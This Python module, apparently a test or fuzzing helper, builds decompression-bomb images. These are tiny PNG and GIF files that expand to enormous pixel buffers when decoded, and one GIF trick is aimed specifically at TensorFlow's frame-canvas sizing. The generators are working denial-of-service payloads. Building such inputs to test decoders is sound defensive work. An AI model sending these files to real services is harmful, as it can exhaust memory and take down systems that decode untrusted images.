"""Encoded images that are tiny as files and huge once decoded (decompression bombs), written
byte by byte so that nothing of the size they declare is ever held in memory."""
import struct
import zlib


def png_bomb(width, height):
    """A valid PNG of width x height black RGB pixels: the rows of zeros deflate to ~1/1000."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    row = b"\0" * (1 + 3 * width)
    deflate = zlib.compressobj(9)
    data = b"".join(deflate.compress(row) for _ in range(height)) + deflate.flush()
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", data) + chunk(b"IEND", b""))


def _lzw_zeros(count):
    """GIF image data (LZW, minimum code size 2) of `count` pixels of colour 0, in sub-blocks: a
    clear code before every two literals keeps every code 3 bits wide."""
    codes = []
    for i in range(0, count, 2):
        codes += [4] + [0] * min(2, count - i)
    codes.append(5)  # end of information
    bits = nbits = 0
    packed = bytearray()
    for code in codes:
        bits |= code << nbits
        nbits += 3
        while nbits >= 8:
            packed.append(bits & 255)
            bits >>= 8
            nbits -= 8
    if nbits:
        packed.append(bits & 255)
    out = bytearray([2])
    for i in range(0, len(packed), 255):
        part = packed[i:i + 255]
        out += bytes([len(part)]) + part
    return bytes(out + b"\0")


def gif_frames(frames, screen=(1, 1)):
    """A GIF89a with one image per (width, height) of `frames`, each after a graphic control
    extension. TensorFlow's decoder gives every frame a canvas of the largest frame's width and
    the largest frame's height, so frames of 20000 x 1 and 1 x 20000 decode to 20000 x 20000."""
    out = bytearray(b"GIF89a" + struct.pack("<HHBBB", screen[0], screen[1], 0x80, 0, 0) + b"\0\0\0\xff\xff\xff")
    for width, height in frames:
        out += b"\x21\xf9\x04\x00\x00\x00\x00\x00"
        out += b"\x2c" + struct.pack("<HHHHB", 0, 0, width, height, 0) + _lzw_zeros(width * height)
    return bytes(out + b"\x3b")
